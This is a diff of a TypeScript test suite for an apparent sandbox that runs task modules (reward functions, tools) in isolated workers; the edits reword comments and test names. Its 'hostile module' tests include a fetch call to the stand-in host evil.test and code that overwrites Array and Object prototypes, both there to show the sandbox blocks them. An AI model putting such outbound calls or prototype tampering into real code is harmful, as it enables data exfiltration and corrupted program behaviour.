@@ -1,4 +1,6 @@
-/** Tasks by address: files, packages and URLs; and what a hostile module or server does comes to: one sentence each, no worker left. */
+/**
+ * Tests tasks by address (files, packages and URLs) and hostile modules and servers: each ends in one error message, and no worker remains.
+ */
 
 import { mkdirSync, mkdtempSync, readdirSync, writeFileSync } from 'node:fs';
 import { createServer, type RequestListener } from 'node:http';
@@ -22,7 +24,7 @@ afterEach(async () => {
 
 const ENTRY = 'https://example.test/tasks/mine.js';
 
-/** A module whose functions are as good as any, those in `parts` aside. */
+/** Returns a module with working functions, except those in `parts`. */
 const moduleOf = (parts: Record<string, string> = {}, before = '') => `${before}
 const problem = (id) => ({ id, messages: [{ role: 'user', content: 'x' }], answer: '1' });
 export default {
@@ -33,9 +35,9 @@ export default {
   ${parts['more'] ?? ''}
 };`;
 
-/** Hang guards: nothing that ends takes so long. */
+/** Limits that guard against hanging; work that ends takes less. */
 const HANG_LIMITS = { timeoutMs: 60_000, loadMs: 60_000 };
-/** For what never ends: any limit is right. */
+/** A limit for work that never ends; any value is right. */
 const SHORT_MS = 100;
 
 async function isolated(files: string | Record<string, string>, limits: IsolatedLimits = HANG_LIMITS): Promise<Task> {
@@ -51,7 +53,7 @@ async function open(files: string | Record<string, string>, limits: IsolatedLimi
   return isolatedTask({ entry: ENTRY, root: 'https://example.test/', read }, {}, limits);
 }
 
-/** One worker for all tests of a `describe`. */
+/** Returns one worker for all tests of a `describe`. */
 function once(text: string): () => Promise<Task> {
   let opening: Promise<Task> | undefined;
   afterAll(async () => (await opening)?.close?.());
@@ -159,7 +161,7 @@ describe('a hostile module', () => {
     'caches navigator process require SharedArrayBuffer postMessage parent self window document',
     'Worker crypto WebAssembly setTimeout module Buffer Deno Bun',
   ].flatMap((names) => names.split(' '));
-  test('reaches for what a page or Node has: none of it is there', async () => {
+  test('a module cannot reach what a page or Node has', async () => {
     const reward = `() => ({ score: 0, acc: 0, pred: ${JSON.stringify(REACHED)}.filter((name) => name in globalThis || (0, eval)('typeof ' + name) !== 'undefined').join() })`;
     expect(await (await isolated(moduleOf({ reward }))).reward(sample)).toEqual({ score: 0, acc: 0, pred: '' });
     const fetching = await isolated(moduleOf({ reward: '() => fetch("https://evil.test/" + 1)' }));
@@ -182,7 +184,7 @@ describe('a hostile module', () => {
     });
   });
 
-  test('changes what everything inherits: nothing changes outside, and the calls go on', async () => {
+  test('a module that changes prototypes changes nothing outside, and calls continue', async () => {
     const before = `
       Array.prototype.map = Array.prototype.includes = () => { throw 1; };
       Object.prototype.toJSON = undefined; Object.prototype.polluted = 'yes';
@@ -198,7 +200,7 @@ describe('a hostile module', () => {
   });
 });
 
-test('chance and time follow from the call alone, in whatever order calls come', async () => {
+test('randomness and time depend only on the call, in any order of calls', async () => {
   const reward = '({ response }) => ({ score: Math.random(), acc: 0, pred: response + Date.now() })';
   const [a, b] = [await isolated(moduleOf({ reward })), await isolated(moduleOf({ reward }))];
   const of = (task: Task, response: string) => task.reward({ ...sample, response });
@@ -207,7 +209,7 @@ test('chance and time follow from the call alone, in whatever order calls come',
   expect(first[0].score).not.toBe(first[1].score);
 });
 
-test('tools, their states, observe and what it moved; a worker that is started anew goes on from that', async () => {
+test('tools, their states and observe work; a restarted worker continues from the observed state', async () => {
   const more = `
     tools: [{
       name: 'count', description: 'Counts.', parameters: { type: 'object', properties: {} },
@@ -242,7 +244,7 @@ test('tools, their states, observe and what it moved; a worker that is started a
   await expect(tool.execute({}, { ...context, state })).rejects.toThrow('the state of this sample is gone');
 });
 
-test('a tool may return any JSON value; one that cannot cross is the mistake of the module, a throw is for the model', async () => {
+test("a tool can return any JSON value; other values are the module's mistake, and errors are shown to the model", async () => {
   const tools = ['[1, "a"]', 'undefined', 'new Map([[1, 2]])', '[() => 1]', '({ n: 1n })', 'null.x'];
   const listed = tools.map(
     (result, i) =>
@@ -258,7 +260,7 @@ test('a tool may return any JSON value; one that cannot cross is the mistake of 
   expect(String((ended[2] as PromiseRejectedResult).reason)).toContain('an instance of Map');
 });
 
-test('what crosses is the same on the other side, NaN and infinities too', () => {
+test('values are unchanged across the sandbox, including NaN and infinities', () => {
   const value = { a: [NaN, Infinity, -Infinity, -1.5, null, 'x"]}'], $number: 'NaN', b: { c: {} } };
   expect(decodePlain(encodePlain(value))).toEqual(value);
   expect(() => encodePlain('x'.repeat(4_000_001))).toThrow('at most 4000000 may cross');
@@ -340,7 +342,7 @@ describe('in Node', () => {
     return join(folder, name);
   };
 
-  test('a file runs as our own code does, or isolated where that is asked for', async () => {
+  test('a file runs like our own code, or isolated if requested', async () => {
     const text = moduleOf({ reward: "() => ({ score: typeof process === 'object' ? 1 : 0, acc: 0 })" });
     const path = write('own.mjs', text);
     expect(await (await moduleTask(path)).reward(sample)).toEqual({ score: 1, acc: 0 });
